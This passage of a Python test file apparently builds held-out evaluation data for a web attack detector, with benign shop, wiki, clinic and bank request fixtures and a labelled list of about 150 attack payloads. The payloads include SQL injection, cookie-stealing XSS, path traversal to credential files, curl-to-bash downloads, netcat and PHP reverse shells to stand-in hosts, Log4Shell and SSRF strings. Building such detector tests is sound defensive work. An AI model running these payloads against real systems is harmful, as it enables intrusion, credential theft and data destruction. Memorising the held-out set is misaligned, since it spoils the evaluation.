        {**_JSONCT, **_H7_CHROME, "X-Requested-With": "XMLHttpRequest"},
        b'{"items":[{"id":40012345678901,"quantity":1,"properties":{"Monogram":"A.B.C.",'
        b'"Font":"Script (cursive)"}}]}',
    ),
    (
        "POST",
        "/cart/update",
        "",
        _FORM,
        b"updates%5B40012345678901%5D=2&updates%5B40012345678902%5D=0&note=Gift+wrap+please+%3A%29"
        b"&attributes%5BDelivery+date%5D=2026-12-20&checkout=Check+out",
    ),
    (
        "POST",
        "/checkout/shipping",
        "",
        _FORM,
        b"checkout%5Bshipping_address%5D%5Bfirst_name%5D=Ren%C3%A9e&checkout%5Bshipping_address%5D"
        b"%5Blast_name%5D=D%27Souza&checkout%5Bshipping_address%5D%5Baddress1%5D=Flat+2%2F1%2C+"
        b"22+O%27Connell+St.&checkout%5Bshipping_address%5D%5Bcity%5D=Limerick&checkout%5Bemail"
        b"%5D=renee%2Bshop%40example.ie&checkout%5Bbuyer_accepts_marketing%5D=0",
    ),
    (
        "POST",
        "/api/checkout/sessions",
        "",
        {**_JSONCT, **_H7_CHROME, "Idempotency-Key": "8e03978e-40d5-43e8-bc93-6894a57f9324"},
        b'{"mode":"payment","success_url":"https://shop.example.com/thanks?session_id='
        b'{CHECKOUT_SESSION_ID}","cancel_url":"https://shop.example.com/cart",'
        b'"line_items":[{"price":"price_1OqX","quantity":1}]}',
    ),
    (
        "POST",
        "/g/collect",
        "v=2&tid=G-XYZ789&gtm=45je4b00&_p=1700000000&cid=99.1700000001&ul=en-gb&sr=1440x900"
        "&en=purchase&ep.transaction_id=T-55120&epn.value=129.99&ep.currency=GBP",
        {"Content-Type": "text/plain;charset=UTF-8", "Sec-Fetch-Mode": "no-cors"},
        b"en=add_to_cart&_et=1204&pr1=idSKU-1~nmMen%27s%201%2F4-Zip%20Fleece~pr59.00~qt1",
    ),
    (
        "POST",
        "/api/rum",
        "",
        _H7_BEACON,
        b'{"type":"web-vitals","url":"https://shop.example.com/search?q=o%27neill+jacket",'
        b'"metrics":{"LCP":2104,"CLS":0.02,"INP":96},"nav":"back-forward"}',
    ),
    (
        "POST",
        "/api/logs",
        "",
        _H7_BEACON,
        b'{"level":"error","msg":"TypeError: Cannot read properties of undefined (reading '
        b'\'price\')","stack":"at addToCart (https://shop.example.com/static/js/app.8f3a.js:1:'
        b'20412)\\n    at HTMLButtonElement.<anonymous> (app.8f3a.js:1:19877)"}',
    ),
    (
        "POST",
        "/api/1234567/envelope/",
        "sentry_key=abc123def456&sentry_version=7",
        {"Content-Type": "text/plain;charset=UTF-8"},
        b'{"event_id":"9ec79c33ec9942ab8353589fcb2e04dc","sent_at":"2026-11-27T21:00:00Z"}\n'
        b'{"type":"event"}\n'
        b'{"exception":{"values":[{"type":"ReferenceError","value":"gtag is not defined"}]},'
        b'"request":{"url":"https://shop.example.com/checkout?step=2"}}',
    ),
    (
        "POST",
        "/api/mobile/v3/auth/refresh",
        "",
        {
            **_JSONCT,
            "User-Agent": "ShopApp/8.14.1 (iPhone; iOS 17.4.1; Scale/3.00)",
            "Authorization": "Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6IjEifQ.eyJzdWIiOiI0MiJ9.c2lnbmF0dXJl",
            "X-App-Version": "8.14.1",
            "X-Device-Id": "A1B2C3D4-E5F6-7890-ABCD-EF1234567890",
            "Accept-Language": "en-GB;q=1.0, cy-GB;q=0.9",
        },
        b'{"refresh_token":"def50200a1b2c3d4e5f6/+==","grant_type":"refresh_token"}',
    ),
    (
        "GET",
        "/api/mobile/v3/feed",
        "cursor=MjAyNi0xMS0yN1QyMTowMDowMFo%3D&limit=20",
        {
            "User-Agent": "okhttp/4.12.0",
            "Accept": "application/json",
            "X-App-Version": "8.14.1 (2031)",
            "X-Timezone": "America/Sao_Paulo",
            "If-None-Match": 'W/"5e-1700000000"',
        },
        None,
    ),
    (
        "POST",
        "/wiki/index.php",
        "title=Help:Tables&action=submit",
        _FORM,
        b"wpTextbox1=%7B%7C+class%3D%22wikitable%22%0A%7C-%0A%21+Header+1+%21%21+Header+2%0A%7C-"
        b"%0A%7C+cell+%7C%7C+cell%0A%7C%7D&wpSummary=%2F*+Examples+*%2F+add+table&wpSave=Save"
        b"+changes&wpEditToken=d41d8cd98f00b204e9800998ecf8427e%2B%5C",
    ),
    (
        "POST",
        "/wiki/index.php",
        "title=Main_Page&action=submit",
        _FORM,
        b"wpTextbox1=%27%27%27Welcome%27%27%27+to+the+wiki%21+See+%5B%5BHelp%3AContents%5D%5D"
        b"+and+%7B%7BCurrent+events%7D%7D.&wpSummary=tidy&wpMinoredit=1",
    ),
    (
        "PUT",
        "/api/docs/pages/8812",
        "",
        _JSONCT,
        json.dumps(
            {
                "title": "Onboarding checklist",
                "markdown": "### Week 1\n- [ ] laptop & accounts\n- [ ] read *Handbook* "
                '(esp. §4 "Expenses")\n\n> Ask @it-help if `ssh` keys fail.',
            }
        ).encode(),
    ),
    (
        "POST",
        "/api/files/upload",
        "",
        _H7_MULTIPART,
        _h7_multipart(
            ("path", None, None, b"/Shared/Finance & Legal/2026"),
            (
                "file",
                "Q3 report (final) v2 - O'Neil.xlsx",
                "application/octet-stream",
                b"PK\x03\x04",
            ),
        ),
    ),
    (
        "PATCH",
        "/api/files/8812",
        "",
        {"Content-Type": "application/merge-patch+json"},
        b'{"name":"Contract -- signed (2026-11-27).pdf","tags":["legal","Q4"],'
        b'"description":"Final; see clause 4(b)(ii) & annex \\"C\\""}',
    ),
    (
        "POST",
        "/patient-portal/messages",
        "",
        _FORM,
        b"subject=Re%3A+blood+test+results&body=Hi+Dr.+Patel%2C+my+LDL+was+3.9+mmol%2FL+%28%3E3.0"
        b"%3F%29+-+should+I+increase+atorvastatin+to+40mg%3F+Thanks%2C+A.+O%27Hara&urgent=0",
    ),
    (
        "POST",
        "/intake/form",
        "",
        _H7_MULTIPART,
        _h7_multipart(
            (
                "medications",
                None,
                None,
                b"Metformin 500mg 2x/d; Lisinopril 10mg 1x/d; Vitamin D 1000 IU (OTC)",
            ),
            (
                "history",
                None,
                None,
                b"Appendectomy (2009); C-section x2; smoker 10 pack-years, "
                b"quit 2018 -- 'social' drinker <7 units/wk",
            ),
            ("insurance_card", "card front.jpg", "image/jpeg", b"\xff\xd8\xff\xe0"),
        ),
    ),
    (
        "POST",
        "/banking/payments",
        "",
        {**_FORM, **_H7_CDN},
        b"payee=Smith+%26+Wesson+Lettings+Ltd&sort_code=20-00-00&account=55779911&amount=1%2C250.00"
        b"&reference=RENT+DEC+%2F+FLAT+3%2F2&date=2026-12-01",
    ),
    (
        "POST",
        "/api/kyc/address",
        "",
        {**_JSONCT, **_H7_CDN},
        b'{"line1":"Rua Dr. Jo\\u00e3o de Barros, 45 - 3\\u00ba Esq.","city":"Lisboa",'
        b'"postal_code":"1300-300","proof":"utility bill (EDP) -- Oct/2026"}',
    ),
    (
        "GET",
        "/",
        "",
        {
            **_H7_CDN,
            "Via": "1.1 varnish, 1.1 abc123.cloudfront.net (CloudFront)",
            "X-Amz-Cf-Id": "Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9St0Uv==",
            "CloudFront-Viewer-Country": "GB",
            "traceparent": "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
            "tracestate": "congo=t61rcWkgMzE,rojo=00f067aa0ba902b7",
            "baggage": "userId=alice,serverNode=DF%2028,isProduction=false",
        },
        None,
    ),
    (
        "GET",
        "/products/fleece",
        "",
        {
            **_H7_CHROME,
            "Sec-Fetch-Mode": "navigate",
            "Sec-Fetch-Dest": "document",
            "Sec-Fetch-User": "?1",
            "Upgrade-Insecure-Requests": "1",
            "Cache-Control": "max-age=0",
            "If-Modified-Since": "Fri, 27 Nov 2026 20:00:00 GMT",
            "X-Forwarded-For": "203.0.113.9, 2001:db8::1, 10.0.0.7",
            "Forwarded": 'for=203.0.113.9;proto=https, for="[2001:db8::1]"',
            "True-Client-IP": "203.0.113.9",
            "Fastly-Client-IP": "203.0.113.9",
            "Akamai-Origin-Hop": "2",
        },
        None,
    ),
    (
        "GET",
        "/api/search/suggest",
        "q=women%27s%20ru&limit=6",
        {
            **_H7_CHROME,
            "Accept": "application/json, text/plain, */*",
            "X-Requested-With": "XMLHttpRequest",
            "X-CSRF-Token": "J8nH+k2/aQ==",
            "Referer": "https://shop.example.com/search?q=women%27s+r",
        },
        None,
    ),
    (
        "POST",
        "/1/indexes/*/queries",
        "x-algolia-agent=Algolia%20for%20JavaScript%20(4.22.1)%3B%20Browser",
        {**_H7_BEACON, "x-algolia-application-id": "ABC123XYZ", "x-algolia-api-key": "0f9e8d7c"},
        b'{"requests":[{"indexName":"products","params":"query=men%27s%20boo&hitsPerPage=6'
        b'&facetFilters=%5B%5B%22brand%3ADr.%20Martens%22%5D%5D"}]}',
    ),
    (
        "POST",
        "/fhir/Observation",
        "",
        {"Content-Type": "application/fhir+json; fhirVersion=4.0"},
        b'{"resourceType":"Observation","status":"final","code":{"coding":[{"system":'
        b'"http://loinc.org","code":"8480-6","display":"Systolic blood pressure"}]},'
        b'"valueQuantity":{"value":142,"unit":"mm[Hg]"},"note":[{"text":"Taken after 5 min rest; '
        b"pt anxious ('white coat')\"}]}",
    ),
    (
        "POST",
        "/banking/import",
        "",
        _H7_MULTIPART,
        _h7_multipart(
            ("format", None, None, b"csv"),
            (
                "statement",
                "statement_2026-11.csv",
                "text/csv",
                b'Date,Description,Amount\n2026-11-03,"TESCO STORES 2231, LONDON",-23.40\n'
                b"2026-11-05,\"O'NEILL'S BAR & GRILL\",-41.00\n",
            ),
        ),
    ),
    (
        "POST",
        "/api/mobile/v3/push/register",
        "",
        {
            **_JSONCT,
            "User-Agent": "MyBank/5.2.0 (Android 14; SM-S918B; Build/UP1A.231005.007)",
            "X-Request-Signature": "t=1700000000,v1=5257a869e7ecebeda32affa62cdca3fa51cad7e77a0e56",
        },
        b'{"token":"dQw4w9WgXcQ:APA91bH-abc_DEF/123+xyz","topics":["offers","security-alerts"]}',
    ),
    (
        "POST",
        "/api/checkout/apple-pay/validate",
        "",
        {**_JSONCT, **_H7_CHROME},
        b'{"validationURL":"https://apple-pay-gateway.apple.com/paymentservices/startSession",'
        b'"displayName":"Shop & Co.","initiative":"web","initiativeContext":"shop.example.com"}',
    ),
    (
        "POST",
        "/wiki/api.php",
        "",
        _FORM,
        b"action=parse&format=json&contentmodel=wikitext&text=%3Csyntaxhighlight+lang%3D%22bash"
        b"%22%3Etar+-xzf+backup.tar.gz+-C+%2Ftmp%3C%2Fsyntaxhighlight%3E&title=Backups",
    ),
    (
        "POST",
        "/api/files/8812/rename",
        "",
        _FORM,
        b"new_name=Budget+2027+%E2%80%93+v3+%28CFO+comments%29+%5BDRAFT%5D.xlsx&keep_versions=1",
    ),
    (
        "HEAD",
        "/healthcheck",
        "",
        {"User-Agent": "Amazon CloudFront", "Via": "1.1 abc.cloudfront.net (CloudFront)"},
        None,
    ),
)

HELDOUT7_ATTACKS: tuple[tuple[str, str, str], ...] = (
    # (category, delivery, payload); deliveries as in `_deliver6`, plus `_deliver7`'s own.
    ("sqli", "cartjson", "1' OR 1=1-- -"),
    ("sqli", "checkout", "x' UNION SELECT username, password FROM customers-- "),
    ("sqli", "suggest", "shoe' AND 1=(SELECT COUNT(*) FROM tabname); --"),
    ("sqli", "beacon", "1' AND SLEEP(5) AND '1'='1"),
    ("sqli", "mobile", "' OR ''='"),
    ("sqli", "patch", "x'||(SELECT version())||'"),
    ("sqli", "argname", "id' OR '1'='1"),
    ("sqli", "jsonkey", "name' OR 1=1--"),
    ("sqli", "jsonescape", "' UNION SELECT null, table_name FROM information_schema.tables--"),
    ("sqli", "wiki", "1'; EXEC xp_cmdshell('dir'); --"),
    ("sqli", "query", "1 AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))"),
    (
        "sqli",
        "query",
        "1' AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT user()),0x71))s), 8446744073709551610, 8446744073709551610)))-- x",
    ),
    ("sqli", "query", "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))"),
    ("sqli", "query", "'+(SELECT 1 FROM dual WHERE 1=1)+'"),
    ("sqli", "query", "1' AND GTID_SUBSET(CONCAT(0x7e,(SELECT @@hostname),0x7e),1)-- -"),
    ("sqli", "query", "' UNION ALL SELECT NULL,NULL,NULL,CHR(113)||CHR(118)-- -"),
    ("sqli", "query", "1 AND 7347=DBMS_PIPE.RECEIVE_MESSAGE(CHR(79),5)"),
    ("sqli", "query", "'; COPY (SELECT '') TO PROGRAM 'id'--"),
    ("sqli", "query", "1%2527%2520OR%25201%253D1--"),
    ("sqli", "raw", "1%27%09oR%09%271%27%3D%271"),
    ("sqli", "raw", "%EF%BC%87%20OR%201=1--"),
    ("sqli", "cookie", "1' AND (SELECT SUBSTR(password,1,1) FROM users WHERE id=1)='a"),
    ("sqli", "header:X-Api-Version", "1' UNION SELECT @@version-- -"),
    ("sqli", "matrix", "1' OR '1'='1"),
    ("sqli", "sharemeta", "report'); DELETE FROM files WHERE ('1'='1"),
    ("sqli", "multipart", "1' or sleep(5)#"),
    ("xss", "cartjson", "<img src=x onerror=alert(document.cookie)>"),
    ("xss", "checkout", '"><svg onload=confirm(1)>'),
    ("xss", "suggest", "<script>alert(1)</script>"),
    ("xss", "beacon", "</title><script>new Image().src='//x.example/?c='+document.cookie</script>"),
    ("xss", "mobile", "<iframe srcdoc='<script>alert(1)</script>'></iframe>"),
    ("xss", "patch", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("xss", "argname", "<svg onload=alert(1)>"),
    ("xss", "jsonkey", "<img src=x onerror=alert(1)>"),
    ("xss", "jsonescape", "<script>alert(document.domain)</script>"),
    ("xss", "wiki", '<div style="background:url(javascript:alert(1))">x</div>'),
    ("xss", "sharemeta", "\"><img src=x onerror=alert('file')>.pdf"),
    ("xss", "query", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("xss", "query", "<marquee onstart=alert(1)>"),
    ("xss", "query", "<img src=x onerror=window['al'+'ert'](1)>"),
    ("xss", "query", '<a href="javas&#99;ript:alert(1)">click</a>'),
    ("xss", "query", "<form><button formaction=javascript:alert(1)>x</button></form>"),
    ("xss", "query", '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'),
    (
        "xss",
        "query",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)' /></svg>#x\"/>",
    ),
    ("xss", "query", "<img src=x onerror=alert`1`>"),
    ("xss", "query", "<script src=//x.example/a.js></script>"),
    ("xss", "query", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
    ("xss", "raw", "%3Csvg%2Fonload%3Dalert%281%29%3E"),
    ("xss", "double", "<body onload=alert(1)>"),
    ("xss", "redirect", "javascript://%0aalert(1)"),
    ("xss", "redirect", "data:text/html,<script>alert(1)</script>"),
    ("xss", "header:Referer", 'https://x.example/"><script>alert(1)</script>'),
    ("xss", "filename", '"><img src=x onerror=alert(1)>.png'),
    ("lfi", "cartjson", "../../../../etc/passwd"),
    ("lfi", "checkout", "../../../../../../windows/win.ini"),
    ("lfi", "suggest", "/etc/shadow"),
    ("lfi", "beacon", "file:///proc/self/environ"),
    ("lfi", "mobile", "../../../../../../data/data/com.example.app/shared_prefs/auth.xml"),
    ("lfi", "patch", "php://filter/convert.base64-encode/resource=../config.php"),
    ("lfi", "argname", "../../../etc/passwd"),
    ("lfi", "sharemeta", "../../../../home/ubuntu/.aws/credentials"),
    ("lfi", "matrix", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("lfi", "query", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("lfi", "query", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("lfi", "query", "/..;/..;/..;/etc/passwd"),
    ("lfi", "query", "....\\\\....\\\\....\\\\windows\\\\system.ini"),
    ("lfi", "query", "/proc/self/cmdline"),
    ("lfi", "query", "/etc/nginx/nginx.conf"),
    ("lfi", "query", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+"),
    ("lfi", "query", "phar://uploads/avatar.jpg/shell.php"),
    ("lfi", "raw", "..%252f..%252f..%252fetc%252fpasswd"),
    ("lfi", "path", "/download/..%2f..%2f..%2f..%2fetc/passwd"),
    ("lfi", "path", "/.env"),
    ("lfi", "path", "/app/config/parameters.yml"),
    ("lfi", "path", "/WEB-INF/classes/application.properties"),
    ("lfi", "path", "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("lfi", "cookie", "../../../../etc/passwd"),
    ("lfi", "header:X-File", "/etc/passwd"),
    ("rce", "cartjson", "; curl -s http://x.example/s.sh | bash"),
    ("rce", "checkout", "$(wget -qO- http://x.example/a)"),
    ("rce", "suggest", "| id"),
    ("rce", "beacon", "`cat /etc/passwd`"),
    ("rce", "mobile", "; nc -e /bin/sh 203.0.113.7 4444"),
    ("rce", "patch", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
    ("rce", "argname", ";id"),
    ("rce", "jsonkey", "$(whoami)"),
    ("rce", "jsonescape", "; rm -rf / --no-preserve-root"),
    ("rce", "wiki", "<?php system($_REQUEST['cmd']); ?>"),
    ("rce", "sharemeta", "x.pdf; curl http://x.example/$(id|base64)"),
    ("rce", "query", "& certutil -urlcache -split -f http://x.example/a.exe a.exe"),
    ("rce", "query", "| cmd.exe /c dir C:\\"),
    ("rce", "query", ";w'h'o'a'm'i"),
    ("rce", "query", ";c\\at /e\\tc/pa\\sswd"),
    ("rce", "query", "$(echo${IFS}aWQ=|base64${IFS}-d|sh)"),
    (
        "rce",
        "query",
        '; php -r \'$sock=fsockopen("203.0.113.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'',
    ),
    ("rce", "query", "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}"),
    ("rce", "query", "*{T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("rce", "query", '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}'),
    (
        "rce",
        "query",
        "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')",
    ),
    ("rce", "query", "__import__('subprocess').check_output(['id'])"),
    ("rce", "query", "';process.mainModule.require('child_process').execSync('id');'"),
    ("rce", "raw", "%0a%2fbin%2fcat%20%2fetc%2fpasswd"),
    ("rce", "header:X-Api-Version", "${jndi:ldap://x.oast.example/a}"),
    ("rce", "cookie", "() { :; }; /bin/bash -c 'id'"),
    (
        "rce",
        "rawjson",
        '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":{"$values":["cmd","/c calc"]}}',
    ),
    ("scanner", "ua", "sqlmap/1.8.2#stable (https://sqlmap.org)"),
    (
        "scanner",
        "ua",
        "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
    ),
    ("scanner", "ua", "Fuzz Faster U Fool v2.1.0"),
    ("scanner", "ua", "gobuster/3.6"),
    ("scanner", "ua", "feroxbuster/2.10.1"),
    ("scanner", "ua", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)"),
    ("scanner", "ua", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"),
    ("scanner", "ua", "Mozilla/5.0 zgrab/0.x"),
    ("scanner", "ua", "Acunetix-WebVulnerability-Scanner"),
    ("scanner", "ua", "dirbuster"),
    ("scanner", "header:X-Wvs-Id", "Acunetix-Deepscan/209"),
    ("scanner", "path", "/actuator/env"),
    ("scanner", "path", "/actuator/heapdump"),
    ("scanner", "path", "/.aws/credentials"),
    ("scanner", "path", "/server-status"),
    ("scanner", "path", "/xmlrpc.php"),
    ("scanner", "path", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
    ("scanner", "path", "/owa/auth/x.js"),
    ("scanner", "path", "/jenkins/script"),
    ("scanner", "path", "/manager/html"),
    ("scanner", "path", "/HNAP1/"),
    ("scanner", "path", "/boaform/admin/formLogin"),
    ("scanner", "path", "/debug/pprof/"),
    ("scanner", "path", "/api/v1/pods"),
    ("scanner", "path", "/.svn/entries"),
    ("protocol", "method", "CONNECT"),
    ("protocol", "method", "DEBUG"),
    ("protocol", "header:Content-Length", "1, 2"),
    ("protocol", "header:Transfer-Encoding", " chunked"),
    ("protocol", "header:Transfer-Encoding", "xchunked"),
    ("protocol", "header:Host", "127.0.0.1:22"),
    ("protocol", "header:X-Forwarded-Host", "evil.example"),
    ("protocol", "header:X-HTTP-Method-Override", "TRACE"),
    ("protocol", "header:Range", "bytes=0-,0-,0-,0-,0-,0-,0-,0-,0-,0-,0-,0-,0-,0-,0-,0-"),
    ("protocol", "header:Content-Type", "application/x-www-form-urlencoded; charset=utf-7"),
    ("protocol", "header:Expect", "100-continue, 100-continue"),
    ("protocol", "header:Transfer-Encoding", "chunked;foo=bar"),
    ("protocol", "raw", "%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK"),
    ("protocol", "redirect", "//evil.example/%2F.."),
    ("protocol", "redirect", "https://shop.example.com.evil.example/callback"),
    ("protocol", "argname", "__proto__[isAdmin]"),
    ("protocol", "rawjson", '{"constructor":{"prototype":{"isAdmin":true}}}'),
    (
        "protocol",
        "xml",
        '<!DOCTYPE r [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]><r>&x;</r>',
    ),
    ("protocol", "textxml", '<!DOCTYPE s [<!ENTITY % p SYSTEM "http://x.example/e.dtd"> %p;]><s/>'),
    ("protocol", "query", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("protocol", "query", "gopher://127.0.0.1:6379/_FLUSHALL"),
    (
        "protocol",
        "headers",
        "Content-Length: 4\nTransfer-Encoding: chunked",
    ),
)


def _deliver7(cat: str, how: str, p: str, note: str) -> CorpusRequest:
    """Held-out 7's own deliveries, then `_deliver6`'s: a cart line's option in JSON, a checkout
    form's bracketed field, a search-as-you-type call, an analytics beacon (`text/plain` JSON, as
    `navigator.sendBeacon` sends), a mobile app's JSON with its headers, a JSON merge patch, an
    argument's name, a JSON key, a JSON string spelled in `\\u` escapes, a wiki edit, a shared
    file's description, and a Java matrix parameter in the path."""
    h = _headers()
    if how == "cartjson":
        doc = {"items": [{"id": 40012345678901, "quantity": 1, "properties": {"Engraving": p}}]}
        return _json(cat, "/cart/add.js", doc, note)
    if how == "checkout":
        form = urlencode({"checkout[shipping_address][address1]": p, "checkout[email]": "a@b.co"})
        h = {**h, **_FORM, "Content-Length": str(len(form))}
        return CorpusRequest(cat, "POST", "/checkout/shipping", "", h, form.encode(), note)
    if how == "suggest":
        h = {**h, "Accept": "application/json", "X-Requested-With": "XMLHttpRequest"}
        return CorpusRequest(
            cat, "GET", "/api/search/suggest", f"q={quote(p)}&limit=6", h, None, note
        )
    if how == "beacon":
        beacon: dict[str, object] = {"events": [{"name": "page_view", "params": {"page_title": p}}]}
        body = json.dumps(beacon).encode()
        h = {**h, **_H7_BEACON, "Content-Length": str(len(body))}
        return CorpusRequest(cat, "POST", "/api/collect", "", h, body, note)
    if how == "mobile":
        extra = {"X-App-Version": "8.14.1", "Authorization": "Bearer eyJhbGciOiJIUzI1NiJ9.e30.x"}
        r = _json(cat, "/api/mobile/v3/profile", {"bio": p, "lang": "en"}, note, **extra)
        return CorpusRequest(
            cat, "POST", r.path, "", {**r.headers, "User-Agent": "okhttp/4.12.0"}, r.body, note
        )
    if how == "patch":
        body = json.dumps({"title": p}).encode()
        h = {**h, "Content-Type": "application/merge-patch+json", "Content-Length": str(len(body))}
        return CorpusRequest(cat, "PATCH", "/api/docs/pages/8812", "", h, body, note)
    if how == "argname":
        return CorpusRequest(cat, "GET", "/search", f"{quote(p, safe='')}=1&page=2", h, None, note)
    if how == "jsonkey":
        return _json(cat, "/api/products/search", {"filters": {p: True}, "page": 1}, note)
    if how == "jsonescape":
        escaped = "".join(c if c.isalnum() else f"\\u{ord(c):04x}" for c in p)
        body = ('{"thread": 7, "comment": "' + escaped + '"}').encode()
        h = {**h, **_JSONCT, "Content-Length": str(len(body))}
        return CorpusRequest(cat, "POST", "/api/comments", "", h, body, note)
    if how == "wiki":
        edit = urlencode({"wpTextbox1": p, "wpSummary": "edit", "wpSave": "Save changes"})
        h = {**h, **_FORM, "Content-Length": str(len(edit))}
        q = "title=Sandbox&action=submit"
        return CorpusRequest(cat, "POST", "/wiki/index.php", q, h, edit.encode(), note)
    if how == "sharemeta":
        meta = {"name": "report.pdf", "description": p, "parent": "/Shared"}
        return _json(cat, "/api/files/metadata", meta, note)
    if how == "matrix":
        return CorpusRequest(cat, "GET", f"/catalog/item;id={quote(p, safe='')}", "", h, None, note)
    return _deliver6(cat, how, p, note)


def heldout7_attacks() -> list[CorpusRequest]:
    """The seventh held-out attack set, each payload delivered the way its entry names."""
    return [_deliver7(c, how, p, f"held-out-7 {how}: {p[:120]}") for c, how, p in HELDOUT7_ATTACKS]


def heldout7_benign() -> list[CorpusRequest]:
    """The seventh held-out benign set: shop, clinic and bank free text, markdown and wiki edits,
    text in many scripts, search-as-you-type, beacons, mobile and file-sharing calls, and whole
    requests with the headers real browsers and CDNs add."""
    out = _benign_set(
        "held-out-7",
        HELDOUT7_BENIGN_TEXT,
        HELDOUT7_BENIGN_QUERIES,
        HELDOUT7_BENIGN_PATHS,
        HELDOUT7_BENIGN_JSON,
        HELDOUT7_BENIGN_COOKIES,
        HELDOUT7_BENIGN_REFERERS,
        HELDOUT7_BENIGN_UAS,
    )
    return out + _requests("held-out-7", HELDOUT7_BENIGN_REQUESTS)
